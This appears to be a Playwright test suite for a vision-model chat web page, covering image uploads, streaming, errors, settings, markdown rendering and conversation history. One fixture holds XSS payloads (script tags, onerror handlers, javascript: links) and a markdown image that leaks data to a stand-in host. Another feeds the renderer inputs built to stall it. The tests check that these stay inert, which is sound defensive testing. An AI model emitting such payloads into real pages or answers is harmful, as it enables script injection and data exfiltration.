"""The web page in headless Chromium: what a person does with it, and what a hostile answer must not do to it.

Every test also holds that nothing was logged as an error, that the content policy was never violated, and that
no request left for another origin.
"""

from __future__ import annotations

import base64
import io
import json
import random
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from tessera.images import grid_of
from tessera.model.family import PIXTRAL_12B
from tests.server.pages import answer, ask, expect, launched, needs_chromium, watched_pages
from tests.server.stand_in import DEMO, KEY, StandIn

pytestmark = needs_chromium


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched() as browser:
        yield browser


@pytest.fixture
def server() -> Iterator[StandIn]:
    server = StandIn()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server
    server.go_on.set()
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def open_page(browser: Any, server: StandIn) -> Iterator[Callable[..., Any]]:
    with watched_pages(browser, server.origin) as open_page:
        yield open_page


@pytest.fixture
def page(open_page: Callable[..., Any]) -> Any:
    page = open_page()
    expect(page.locator("#model-name")).to_have_text("pixtral")
    return page


def image(width: int = 1920, height: int = 1080, name: str = "chart.png", **options: Any) -> dict[str, Any]:
    """A file as Playwright's choosers take it."""
    data = io.BytesIO()
    Image.new("RGB", (width, height), "steelblue").save(data, Path(name).suffix[1:].replace("jpg", "jpeg"), **options)
    return {"name": name, "mimeType": "image/" + Path(name).suffix[1:], "buffer": data.getvalue()}


# ---- images


def test_uploaded_images_show_their_cost_and_can_be_removed(page: Any) -> None:
    page.locator("#files").set_input_files([image(), image(208, 230, "receipt.png")])
    expect(page.locator("#pending .cost")).to_have_text(["2,340 tokens", "210 tokens"])
    expect(page.locator("#budget")).to_have_text("2,550 of 131,072 tokens used")
    page.get_by_role("button", name="Remove chart.png").click()
    expect(page.locator("#pending .cost")).to_have_text(["210 tokens"])
    expect(page.get_by_role("button", name="Remove receipt.png")).to_be_focused()


def test_the_grid_is_the_models_own(page: Any) -> None:
    generator = random.Random(1)
    sizes = [(1, 1), (1, 9000), (9000, 1), (1025, 1024), (2048, 1025), (1040, 8), (16, 16), (17, 16), (4096, 2050)]
    sizes += [(generator.randint(1, 6000), generator.randint(1, 6000)) for _ in range(2000)]
    script = """async ([sizes, config]) => {
        const { gridOf } = await import("/web/images.js");
        return sizes.map(([width, height]) => gridOf(width, height, config)).map(({rows, columns}) => [rows, columns]);
    }"""
    config = {"image_size": 1024, "patch_size": 16, "spatial_merge_size": 1}
    grids = page.evaluate(script, [sizes, config])
    assert [tuple(grid) for grid in grids] == [grid_of(*size, PIXTRAL_12B.vision_encoder) for size in sizes]


def test_the_patch_grid_is_drawn_on_demand(page: Any) -> None:
    page.locator("#files").set_input_files(image())
    page.get_by_role("button", name="show with its patch grid").click()
    facts = "1,920 × 1,080 pixels, read as 1,024 × 576, scaled down: 36 rows × (64 patches + 1) = 2,340 tokens."
    expect(page.locator("#viewer-facts")).to_have_text(facts)
    painted = """canvas => new Set(canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data).size"""
    assert page.locator("#viewer canvas.grid").evaluate(painted) > 1
    page.get_by_role("checkbox", name="Patch grid").uncheck()
    expect(page.locator("#viewer canvas.grid")).to_be_hidden()
    page.keyboard.press("Escape")
    expect(page.locator("#viewer")).to_be_hidden()


def test_a_photograph_is_shown_upright(page: Any) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned: 300 x 100 is meant as 100 x 300
    page.locator("#camera").set_input_files(image(300, 100, "photo.jpg", exif=exif))
    expect(page.locator("#pending .cost")).to_have_text(f"{19 * (7 + 1)} tokens")


@pytest.mark.parametrize("event", ["paste", "drop"])
def test_pasted_and_dropped_images_are_taken(page: Any, event: str) -> None:
    script = """([event, data]) => {
        const bytes = Uint8Array.from(atob(data), (character) => character.charCodeAt(0));
        const files = new DataTransfer();
        files.items.add(new File([bytes], "one.png", { type: "image/png" }));
        const options = { bubbles: true, cancelable: true, clipboardData: files, dataTransfer: files };
        const made = event === "paste" ? new ClipboardEvent(event, options) : new DragEvent(event, options);
        document.querySelector("#question").dispatchEvent(made);
    }"""
    page.evaluate(script, [event, base64.b64encode(image(64, 32)["buffer"]).decode()])
    expect(page.locator("#pending .cost")).to_have_text("10 tokens")


def test_what_is_no_image_or_too_much_is_refused_by_name(page: Any, server: StandIn) -> None:
    page.locator("#files").set_input_files({"name": "notes.txt", "mimeType": "text/plain", "buffer": b"hello"})
    expect(page.locator("#problem")).to_contain_text("notes.txt is not an image")
    page.locator("#files").set_input_files([image(16, 16, f"{number}.png") for number in range(9)])
    expect(page.locator("#problem")).to_contain_text("8 images")
    expect(page.locator("#pending .image")).to_have_count(8)
    server.config["max_image_bytes"] = 60
    page.reload()
    page.locator("#files").set_input_files(image(64, 64, "heavy.png"))
    expect(page.locator("#problem")).to_contain_text("heavy.png has")


def test_images_that_the_browser_cannot_show_are_sent_all_the_same(page: Any, server: StandIn) -> None:
    page.locator("#files").set_input_files(image(64, 64, "scan.tiff"))
    expect(page.locator("#pending .cost")).to_have_text("not shown here")
    ask(page, "What is this?")
    answer(page)
    assert server.requests[0]["messages"][0]["content"][0]["type"] == "image_url"


# ---- asking


def test_an_answer_streams_and_the_request_is_whole(page: Any, server: StandIn) -> None:
    chart = image()
    page.locator("#files").set_input_files(chart)
    ask(page, "paused total?")
    expect(page.locator(".answer .body")).to_have_text("The total is")
    expect(page.locator(".answer")).to_have_attribute("aria-busy", "true")
    server.go_on.set()
    expect(answer(page).locator(".body")).to_have_text("The total is 15.00 €.")
    expect(page.locator(".answer strong")).to_have_text("15.00")
    facts = page.locator(".facts")
    expect(facts.locator("summary")).to_have_text(re.compile(r"^15 tokens, \d+\.\d s$"))
    expect(facts.locator("li").first).to_be_hidden()
    facts.locator("summary").click()
    read = ["Read 4,180 tokens: 4,160 of images, 20 of text", "16 of them were in the cache"]
    timed = [re.compile(r"^First word after \d+\.\d\d s$"), re.compile(r"^then \d+\.\d tokens a second$")]
    expect(facts.locator("li")).to_have_text([*read, *timed])
    expect(page.locator("#budget")).to_have_text("4,195 of 131,072 tokens used")
    url = "data:image/png;base64," + base64.b64encode(chart["buffer"]).decode()
    content = [{"type": "image_url", "image_url": {"url": url}}, {"type": "text", "text": "paused total?"}]
    assert server.requests == [
        {
            "model": "pixtral", "messages": [{"role": "user", "content": content}], "temperature": 0, "stream": True,
            "stream_options": {"include_usage": True}, "logprobs": True, "top_logprobs": 5, "max_tokens": 1024,
        }
    ]  # fmt: skip


def test_thoughts_are_folded_away_above_the_answer(page: Any, server: StandIn) -> None:
    server.answers["think"] = "It is 4."
    ask(page, "think hard")
    expect(answer(page).locator(".body")).to_have_text("It is 4.")
    thoughts = answer(page).locator(".thoughts")
    expect(thoughts.locator("p")).to_be_hidden()
    thoughts.locator("summary").click()
    expect(thoughts.locator("p")).to_have_text("Two <b>and</b> two.")
    expect(thoughts.locator("p")).to_be_visible()


def test_a_question_waits_for_images_that_are_being_read(page: Any, server: StandIn) -> None:
    """Enter pressed at once must neither lose the image nor, if it is none, send the question without it."""
    page.evaluate("""() => {
        const read = createImageBitmap;
        window.createImageBitmap = async (file) => {
            await new Promise((done) => setTimeout(done, 300));
            return read(file);
        };
    }""")
    broken = {"name": "notes.png", "mimeType": "image/png", "buffer": b"not an image"}
    page.locator("#files").set_input_files(broken)
    ask(page, "Broken?")
    expect(page.locator("#problem")).to_contain_text("notes.png")
    expect(page.locator("#question")).to_have_value("Broken?")
    page.locator("#files").set_input_files(image(32, 32))
    ask(page, "First?")
    answer(page)
    (request,) = server.requests
    assert [part["type"] for part in request["messages"][0]["content"]] == ["image_url", "text"]


def test_images_stay_in_the_conversation_until_a_new_one(page: Any, server: StandIn) -> None:
    page.locator("#files").set_input_files(image(32, 32))
    ask(page, "First?")
    answer(page)
    ask(page, "Second?")
    expect(page.locator(".answer")).to_have_count(2)
    answer(page)
    messages = server.requests[1]["messages"]
    assert [message["role"] for message in messages] == ["user", "assistant", "user"]
    assert [part["type"] for part in messages[0]["content"]] == ["image_url", "text"]
    assert messages[1]["content"] == "The total is **15.00** €."
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".exchange")).to_have_count(0)
    expect(page.locator("#welcome")).to_be_visible()
    ask(page, "Third?")
    answer(page)
    assert [message["role"] for message in server.requests[2]["messages"]] == ["user"]


def test_shift_enter_makes_a_line_and_an_empty_question_is_not_sent(page: Any, server: StandIn) -> None:
    field = page.get_by_label("Your question")
    field.press("Enter")
    field.type("one")
    field.press("Shift+Enter")
    field.type("two")
    expect(field).to_have_value("one\ntwo")
    field.press("Enter")
    answer(page)
    assert [request["messages"][0]["content"][-1]["text"] for request in server.requests] == ["one\ntwo"]


@pytest.mark.parametrize("how", ["button", "escape"])
def test_stopping_keeps_what_was_written_and_leaves_the_server(page: Any, server: StandIn, how: str) -> None:
    ask(page, "slow")
    expect(page.locator(".answer .body")).to_contain_text("tick tick")
    page.get_by_role("button", name="Stop").click() if how == "button" else page.keyboard.press("Escape")
    expect(answer(page).locator(".facts")).to_contain_text("stopped")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.get_by_role("alert").filter(has_text=re.compile("."))).to_have_count(0)
    assert server.left.wait(5)
    ask(page, "next")
    answer(page)
    assert server.requests[1]["messages"][1]["content"].startswith("tick tick")


def test_stopping_before_the_first_word_gives_the_question_back(page: Any) -> None:
    page.locator("#files").set_input_files(image(32, 32))
    ask(page, "silent please")
    expect(page.locator(".waiting")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_label("Your question")).to_have_value("silent please")
    expect(page.locator("#pending .image")).to_have_count(1)
    expect(page.locator(".exchange")).to_have_count(0)


# ---- errors


@pytest.mark.parametrize(
    ("word", "sentence"),
    [
        ("busy", "The server is busy. Too many requests are waiting. Try again in 7 s."),
        ("large", "is too large for this server; remove an image or send a smaller one. The limit is 64 MB."),
        ("failing", "The engine has stopped."),
    ],
)
def test_a_refused_question_says_why_and_goes_back_into_the_field(page: Any, word: str, sentence: str) -> None:
    page.locator("#files").set_input_files(image(32, 32))
    ask(page, f"{word} question")
    expect(page.locator("#problem")).to_contain_text(sentence)
    expect(page.get_by_label("Your question")).to_have_value(f"{word} question")
    expect(page.locator("#pending .image")).to_have_count(1)
    ask(page, "again")
    answer(page)
    expect(page.locator("#problem")).to_be_empty()


def test_an_empty_answer_is_no_part_of_the_conversation(page: Any, server: StandIn) -> None:
    server.answers["nothing"] = ""
    ask(page, "nothing at all")
    expect(page.locator("#problem")).to_contain_text("The model gave an empty answer. Try rephrasing.")
    expect(page.get_by_label("Your question")).to_have_value("nothing at all")
    ask(page, "total?")
    answer(page)
    assert len(server.requests[1]["messages"]) == 1


@pytest.mark.parametrize(
    ("word", "sentence"),
    [("midway", "The server failed midway: The engine ran dry."), ("cut", "The connection ended before the answer")],
)
def test_an_answer_that_breaks_off_stays_and_says_so(page: Any, word: str, sentence: str) -> None:
    ask(page, f"{word} question")
    expect(answer(page).locator(".body")).to_have_text("The total is")
    expect(answer(page).get_by_role("alert")).to_contain_text(sentence)


def test_a_server_that_is_gone_is_named(page: Any) -> None:
    page.context.set_offline(True)
    ask(page, "anybody?")
    expect(page.locator("#problem")).to_contain_text("The server cannot be reached")
    page.context.set_offline(False)


def test_a_server_that_comes_later_is_found_by_the_next_question(page: Any, server: StandIn) -> None:
    page.route("**/web/config.json", lambda route: route.abort())
    page.reload()
    expect(page.locator("#problem")).to_contain_text("The server cannot be reached")
    page.unroute("**/web/config.json")
    ask(page, "total?")
    answer(page)
    expect(page.locator("#problem")).to_be_empty()


def test_a_key_is_asked_for_kept_for_the_tab_and_sent(open_page: Callable[..., Any], server: StandIn) -> None:
    server.config["needs_key"] = True
    page = open_page()
    field = page.get_by_label("This server asks for an API key.")
    field.fill("a-bad-key")
    field.press("Enter")
    expect(page.locator("#key-error")).to_contain_text("The API key was refused.")
    field.fill(KEY)
    field.press("Enter")
    expect(page.locator("#key-form")).to_be_hidden()
    ask(page, "total?")
    answer(page)
    assert page.evaluate("Object.values(sessionStorage)") == [KEY]
    assert page.evaluate("[localStorage.length, document.cookie]") == [0, ""]
    page.evaluate("sessionStorage.setItem('tessera-api-key', 'expired')")
    ask(page, "total?")
    expect(field).to_be_focused()
    expect(page.get_by_label("Your question")).to_have_value("total?")


# ---- settings


def test_settings_reach_the_request(page: Any, server: StandIn) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("System prompt").fill("Answer in one word.")
    page.get_by_label("Temperature").fill("0,7")
    page.get_by_label("Max tokens").fill("")
    schema = {"type": "object", "properties": {"total": {"type": "number"}}}
    page.get_by_label("JSON schema").fill(json.dumps(schema))
    server.answers["json"] = '{"total": 15.00, "note": "**not** bold"}'
    ask(page, "json please")
    laid_out = '{\n  "total": 15.00,\n  "note": "**not** bold"\n}'
    expect(answer(page).locator("pre")).to_have_text(laid_out, use_inner_text=True)
    request = server.requests[0]
    assert request["messages"][0] == {"role": "system", "content": "Answer in one word."}
    assert request["temperature"] == 0.7
    assert "max_tokens" not in request
    expected = {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema, "strict": True}}
    assert request["response_format"] == expected


def test_a_wrong_schema_is_shown_at_its_field_and_nothing_is_sent(page: Any, server: StandIn) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("JSON schema").fill('{"type": ')
    page.get_by_role("button", name="Close").click()
    ask(page, "total?")
    expect(page.locator("#schema-error")).to_contain_text("This is not JSON")
    expect(page.get_by_label("JSON schema")).to_be_focused()
    expect(page.get_by_label("JSON schema")).to_have_attribute("aria-invalid", "true")
    page.get_by_label("JSON schema").fill("[1]")
    page.get_by_label("Temperature").fill("warm")
    ask(page, "total?")
    expect(page.locator("#schema-error")).to_contain_text("is an object")
    expect(page.locator("#temperature-error")).to_contain_text("from 0 to 2")
    assert server.requests == []


def test_several_models_can_be_chosen_from(open_page: Callable[..., Any], server: StandIn) -> None:
    server.models = ["pixtral", "receipts"]
    page = open_page()
    page.get_by_label("Model", exact=True).select_option("receipts")
    ask(page, "total?")
    answer(page)
    assert server.requests[0]["model"] == "receipts"


# ---- answers

HOSTILE = """# Hello <script>window.hit = 1</script>

<img src=x onerror="window.hit = 2"> <b>bold?</b>

[one](javascript:window.hit=3) [two](JaVa\tscript:alert(1)) [three](data:text/html,x) [four](//elsewhere.example/x)
[five](https://safe.example/a?b=c "title") <mailto:someone@safe.example> https://bare.example/path.

![secret](https://elsewhere.example/leak?q=secret) ![](javascript:window.hit=4)
[![inner](https://elsewhere.example/p.png)](ftp://elsewhere.example/l)

```html
<script>window.hit = 5</script>
```
"""


def test_hostile_markdown_stays_text(page: Any, server: StandIn) -> None:
    server.answers["hostile"] = HOSTILE
    ask(page, "hostile answer")
    body = answer(page).locator(".body")
    expect(body.locator("script, img, b, iframe, style, [onerror]")).to_have_count(0)
    expect(body.locator("h3")).to_have_text("Hello <script>window.hit = 1</script>")
    expect(body).to_contain_text('<img src=x onerror="window.hit = 2"> <b>bold?</b>')
    expect(body).to_contain_text("one (javascript:window.hit=3)")
    expect(body).to_contain_text("[image, not loaded: secret, https://elsewhere.example/leak?q=secret]")
    links = body.locator("a").evaluate_all("all => all.map((one) => [one.getAttribute('href'), one.rel])")
    safe = ["https://safe.example/a?b=c", "mailto:someone@safe.example", "https://bare.example/path"]
    assert links == [[address, "noopener noreferrer"] for address in safe]
    assert page.evaluate("window.hit") is None


FORMATTED = """## Receipt

| item | price |
| :--- | ----: |
| Tea \\| milk | **2.40** |
| Soup | 6.50 |

1. first
2. second
   - inner *one*
   - inner `two`

> quoted
> line

file_name_here, 3*4*5 = 60, ~~gone~~, ***both***
second line

```python
def f():
    return "**"
```
"""


def test_markdown_is_rendered(page: Any, server: StandIn) -> None:
    server.answers["formatted"] = FORMATTED
    ask(page, "formatted answer")
    body = answer(page).locator(".body")
    expect(body.locator("h4")).to_have_text("Receipt")
    expect(body.locator("th")).to_have_text(["item", "price"])
    expect(body.locator("td")).to_have_text(["Tea | milk", "2.40", "Soup", "6.50"])
    expect(body.locator("td.right strong")).to_have_text("2.40")
    expect(body.locator("ol > li")).to_have_count(2)
    expect(body.locator("ol ul > li")).to_have_text(["inner one", "inner two"])
    expect(body.locator("ul em")).to_have_text("one")
    expect(body.locator("blockquote")).to_have_text("quotedline")
    expect(body.locator("pre code")).to_have_text('def f():\n    return "**"', use_inner_text=True)
    expect(body.locator("> p")).to_have_text("file_name_here, 3*4*5 = 60, gone, bothsecond line")
    expect(body.locator("> p em")).to_have_text("both")


def test_json_is_laid_out_and_kept_to_the_letter(page: Any, server: StandIn) -> None:
    server.answers["data"] = '{"said": "\\"so\\" *and* so\\n", "a_b_c": [1]}'
    server.answers["broken"] = '{"total": 15.00, and more}'
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.origin)
    ask(page, "data please")
    code = answer(page).locator("pre code")
    laid_out = '{\n  "said": "\\"so\\" *and* so\\n",\n  "a_b_c": [\n    1\n  ]\n}'
    expect(code).to_have_text(laid_out, use_inner_text=True)
    answer(page).get_by_role("button", name="Copy the code").click()
    expect(answer(page).get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == server.answers["data"]
    ask(page, "broken please")
    expect(answer(page).locator("pre code")).to_have_text(server.answers["broken"])


def test_laying_json_out_changes_only_space_between_its_parts(page: Any) -> None:
    """Against Python's own layout, of values whose letters JavaScript's parser would not keep."""
    texts = ['{"a":1.50,"a":12345678901234567890}', "[]", '{"e":{},"l":[[],[1,-2.0e5,null,true]]}', '"x, [y]: {z}"']
    texts += ['[{"s": "\\\\", "t": "\\u00e9\\"{"}]', " [ 1 , 2 ] "]
    script = """async (texts) => {
        const { indented } = await import("/web/json.js");
        return texts.map(indented);
    }"""

    def as_written(text: str) -> str:
        kept = json.loads(text, parse_float=_Letters, parse_int=_Letters, object_pairs_hook=_Pairs)
        return _laid_out(kept, "\n")

    assert page.evaluate(script, texts) == [as_written(text) for text in texts]


class _Letters(str):
    """A number as it was written."""


class _Pairs(list[Any]):
    """An object with its keys, however often they come."""


def _laid_out(value: Any, line: str) -> str:
    if isinstance(value, _Letters):
        return str(value)
    if isinstance(value, list) and value:
        inner = line + "  "
        pairs = isinstance(value, _Pairs)
        shown = [f"{json.dumps(x[0])}: {_laid_out(x[1], inner)}" if pairs else _laid_out(x, inner) for x in value]
        begin, end = "{}" if pairs else "[]"
        return begin + inner + ("," + inner).join(shown) + line + end
    return "{}" if isinstance(value, _Pairs) else json.dumps(value)


def test_hostile_sizes_do_not_hold_up_the_page(page: Any, server: StandIn) -> None:
    texts = ["*" * 20_000, "[" * 20_000, "> " * 5_000 + "x", "`a" * 10_000, "- " * 3_000 + "x", "|a" * 5_000 + "\n|-|"]
    script = """async (texts) => {
        const { renderMarkdown } = await import("/web/markdown.js");
        return texts.map((text) => {
            const began = performance.now();
            renderMarkdown(text);
            return performance.now() - began;
        });
    }"""
    assert max(page.evaluate(script, texts)) < 2000  # ms; each takes a few, quadratic or worse would take minutes


def test_doubtful_tokens_are_seen_and_explained(page: Any) -> None:
    ask(page, "total?")
    toggle = answer(page).get_by_role("button", name="How sure? 2 doubtful")
    toggle.click()
    expect(toggle).to_have_attribute("aria-pressed", "true")
    tokens = page.locator(".tokens .token")
    text = ["The", " total", " is", " **", "1", "5", ".", "0", "0", "**", " ", "€", "."]
    assert tokens.all_text_contents() == text
    expect(page.locator(".tokens .unsure")).to_have_text("0")
    expect(page.locator(".tokens .doubtful")).to_have_text("5")
    expect(page.locator(".tokens .likely")).to_have_text([" **", "0", "€"], use_inner_text=True)  # € is 0.96 ** 3
    expect(tokens.nth(7)).to_have_attribute("aria-label", "0, 31 %; other choices: 8, 48 %; 3, 14 %")
    tokens.nth(7).hover()
    expect(page.locator(".tip")).to_be_visible()
    expect(page.locator(".tip li")).to_have_text(["848 %", "031 %", "314 %"])
    expect(page.locator(".tip .chosen code")).to_have_text("0")
    toggle.focus()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    expect(tokens.nth(0)).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(tokens.nth(5)).to_be_focused()
    expect(page.locator(".tip .chosen .percent")).to_have_text("56 %")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowRight")
    expect(tokens.nth(8)).to_be_focused()
    toggle.click()
    expect(answer(page).locator("strong")).to_have_text("15.00")


def test_an_answer_is_copied_as_it_was_written(page: Any, server: StandIn) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.origin)
    ask(page, "total?")
    answer(page).get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "The total is **15.00** €."


# ---- what is kept, and what can be taken back


def questions(server: StandIn) -> list[list[str]]:
    """Of each request, the questions it holds."""
    said = ([m["content"][-1]["text"] for m in r["messages"] if m["role"] == "user"] for r in server.requests)
    return list(said)


KEPT = """async (words) => {
  const { allKept } = await import("/web/store.js");
  return (await allKept("conversations")).some((kept) => JSON.stringify(kept).includes(words));
}"""


def wait_until_kept(page: Any, words: str) -> None:
    """Wait until the browser's store holds a conversation with these words; it is written after they show."""
    for _ in range(200):
        if page.evaluate(KEPT, words):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"no conversation with {words!r} is kept")


def test_a_conversation_with_its_image_outlives_a_reload(page: Any, server: StandIn) -> None:
    page.locator("#files").set_input_files(image(208, 230, "receipt.png"))
    ask(page, "First?")
    answer(page)
    expect(page.locator(".question .thumbnail")).to_have_count(1)
    wait_until_kept(page, "15.00")
    page.reload()
    expect(answer(page).locator("strong")).to_have_text("15.00")
    expect(page.locator(".question .cost")).to_have_text("210 tokens")
    expect(page.locator("#budget")).to_have_text("4,195 of 131,072 tokens used")
    answer(page).get_by_role("button", name="How sure? 2 doubtful").click()
    expect(page.locator(".tokens .unsure")).to_have_text("0")
    ask(page, "Second?")
    expect(page.locator(".answer")).to_have_count(2)
    answer(page)
    assert questions(server)[1] == ["First?", "Second?"]
    images = [
        [part for part in request["messages"][0]["content"] if "image_url" in part] for request in server.requests
    ]
    assert images[0] == images[1]


def test_conversations_are_found_renamed_opened_and_deleted(page: Any, server: StandIn) -> None:
    for text in ("Apples?", "Pears?"):
        page.get_by_role("button", name="New conversation").click()
        ask(page, text)
        expect(page.locator(".answer")).to_have_count(1)
        answer(page)
    page.get_by_role("button", name="History").click()
    titles = page.locator("#conversations .title")
    expect(titles).to_have_text(["Pears?", "Apples?"])
    page.get_by_label("Search in conversations").fill("apples total")  # of the question, and of the answer
    expect(titles).to_have_text(["Apples?"])
    page.get_by_label("Search in conversations").fill("cherries")
    expect(page.locator("#history-empty")).to_contain_text("No conversation holds these words")
    page.get_by_label("Search in conversations").fill("")
    page.get_by_role("button", name="More for Apples?").click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_label("Name of the conversation").fill("Fruit")
    page.keyboard.press("Enter")
    expect(titles).to_have_text(["Pears?", "Fruit"])
    titles.nth(1).click()
    expect(page.locator(".question p")).to_have_text("Apples?")
    page.get_by_role("button", name="More for Fruit").click()
    page.get_by_role("button", name="Delete").click()
    expect(titles).to_have_text(["Pears?"])
    expect(page.locator(".exchange")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(titles).to_have_text(["Pears?", "Fruit"])
    expect(page.locator(".question p")).to_have_text("Apples?")


def test_a_new_conversation_can_be_taken_back(page: Any) -> None:
    ask(page, "First?")
    answer(page)
    page.get_by_label("Your question").fill("half a thou")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".exchange")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".exchange")).to_have_count(1)
    expect(page.get_by_label("Your question")).to_have_value("half a thou")


def test_an_edited_question_replaces_what_came_after_and_can_be_taken_back(page: Any, server: StandIn) -> None:
    for count, text in enumerate(("One?", "Two?", "Three?"), 1):
        ask(page, text)
        expect(page.locator(".answer")).to_have_count(count)
        answer(page)
    page.get_by_label("Your question").fill("a draft")
    page.get_by_role("button", name="Edit").nth(1).click()
    expect(page.get_by_label("Your question")).to_have_value("Two?")
    page.get_by_role("button", name="Cancel").click()
    expect(page.get_by_label("Your question")).to_have_value("a draft")
    page.get_by_role("button", name="Edit").nth(1).click()
    ask(page, "Two and a half?")
    expect(page.locator(".question p")).to_have_text(["One?", "Two and a half?"])
    answer(page)
    expect(page.get_by_label("Your question")).to_have_value("a draft")
    assert questions(server)[-1] == ["One?", "Two and a half?"]
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".question p")).to_have_text(["One?", "Two?", "Three?"])


def test_an_edited_question_that_is_refused_leaves_the_conversation_as_it_was(page: Any) -> None:
    ask(page, "One?")
    answer(page)
    page.get_by_role("button", name="Edit").click()
    ask(page, "busy now")
    expect(page.locator("#problem")).to_contain_text("The server is busy.")
    expect(page.get_by_label("Your question")).to_have_value("busy now")
    expect(page.locator(".question p")).to_have_text(["One?"])
    page.get_by_role("button", name="Dismiss the error").click()
    expect(page.locator("#problem-bar")).to_be_hidden()


def test_an_answer_is_generated_again_in_its_place(page: Any, server: StandIn) -> None:
    ask(page, "One?")
    answer(page)
    page.get_by_label("Your question").fill("a draft")
    server.answers["one?"] = "Another."
    answer(page).get_by_role("button", name="Regenerate").click()
    expect(page.locator(".answer .body")).to_have_text(["Another."])
    expect(page.get_by_label("Your question")).to_have_value("a draft")
    assert questions(server) == [["One?"], ["One?"]]
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".answer strong")).to_have_text("15.00")


@pytest.mark.parametrize("kind", ["Markdown", "JSON"])
def test_a_conversation_is_exported(page: Any, server: StandIn, kind: str) -> None:
    page.locator("#files").set_input_files(image(32, 32))
    ask(page, "Total?")
    answer(page)
    page.get_by_role("button", name="History").click()
    page.get_by_role("button", name="More for Total?").click()
    with page.expect_download() as download:
        page.get_by_role("button", name=f"Export as {kind}").click()
    text = Path(download.value.path()).read_text(encoding="utf-8")
    if kind == "JSON":
        assert download.value.suggested_filename == "Total.json"
        reply = {"role": "assistant", "content": "The total is **15.00** €."}
        assert json.loads(text)["messages"] == [*server.requests[0]["messages"], reply]
    else:
        assert download.value.suggested_filename == "Total.md"
        asked = "## Question\n\n*Image: chart.png*\n\nTotal?\n\n## Answer\n\nThe total is **15.00** €.\n"
        assert text == f"# Total?\n\nAnswers by pixtral.\n\n{asked}"


def test_settings_outlive_a_reload_and_can_be_reset(page: Any) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Temperature").fill("0.7")
    page.get_by_label("System prompt").fill("Be brief.")
    page.reload()
    expect(page.locator("#model-name")).to_have_text("pixtral")
    expect(page.locator("#settings-button.changed")).to_be_visible()
    page.get_by_role("button", name="Settings").click()
    expect(page.get_by_label("Temperature")).to_have_value("0.7")
    expect(page.get_by_label("System prompt")).to_have_value("Be brief.")
    page.get_by_role("button", name="Reset").click()
    expect(page.get_by_label("Temperature")).to_have_value("0")
    expect(page.locator("#settings-button.changed")).to_have_count(0)


# ---- for a beginner


def test_the_demo_model_says_what_it_is_and_offers_images(open_page: Callable[..., Any], server: StandIn) -> None:
    server.config["bundled"] = True
    page = open_page()
    sentence = "nano is a 5M-parameter demo model: it reads receipts, charts and short printed text, and is"
    sentence += " often wrong."
    expect(page.locator("#demo-note")).to_contain_text(sentence)
    expect(page.locator("#demo-note")).to_contain_text("For photos run Pixtral 12B: tessera doctor")
    expect(page.locator("#demo-badge")).to_be_visible()
    page.get_by_role("button", name="Chart").click()
    answer(page)
    (request,) = server.requests
    image, text = request["messages"][0]["content"]
    assert base64.b64decode(image["image_url"]["url"].partition(",")[2]) == (DEMO / "chart.png").read_bytes()
    assert text["text"] == "Which bar is highest?"
    page.get_by_role("button", name="New conversation").click()
    ask(page, "Hello?")
    expect(answer(page).locator(".foot .note")).to_contain_text("questions about images only")


def test_another_model_is_not_called_a_demo(page: Any) -> None:
    expect(page.locator(".demo")).to_have_count(2)
    expect(page.locator("#demo-note")).to_be_hidden()
    expect(page.locator("#demo-badge")).to_be_hidden()


def test_a_large_photograph_is_scaled_down_by_the_page(page: Any, server: StandIn) -> None:
    server.config["max_image_pixels"] = 6_000_000
    page.reload()
    page.locator("#files").set_input_files(image(4000, 2000, "photo.png"))
    words = "The image photo.png is 8 megapixels: it was scaled down to 2,048 × 1,024"
    expect(page.locator("#notice")).to_contain_text(words)
    expect(page.locator("#pending .cost")).to_have_text(f"{32 * (64 + 1):,} tokens")
    ask(page, "What is it?")
    answer(page)
    url = server.requests[0]["messages"][0]["content"][0]["image_url"]["url"]
    with Image.open(io.BytesIO(base64.b64decode(url.partition(",")[2]))) as sent:
        assert sent.size == (2048, 1024)
        assert sent.convert("RGB").getpixel((1000, 500)) == (70, 130, 180)  # steelblue


def test_a_pdf_is_refused_with_the_way_out(page: Any) -> None:
    page.locator("#files").set_input_files({"name": "doc.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.7"})
    expect(page.locator("#problem")).to_contain_text("doc.pdf is a PDF")
    expect(page.locator("#problem")).to_contain_text("pdftoppm -png doc.pdf page")


def test_the_keyboard_is_back_in_the_question_after_a_click_on_send(page: Any) -> None:
    page.get_by_label("Your question").fill("paused total?")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_label("Your question")).to_be_focused()


def test_the_explanation_of_a_token_covers_neither_text_nor_buttons(page: Any) -> None:
    ask(page, "total?")
    answer(page).get_by_role("button", name="How sure?").click()
    expect(page.locator("#legend")).to_be_visible()
    page.locator(".tokens .token").nth(7).hover()
    expect(page.locator(".tip")).to_be_visible()
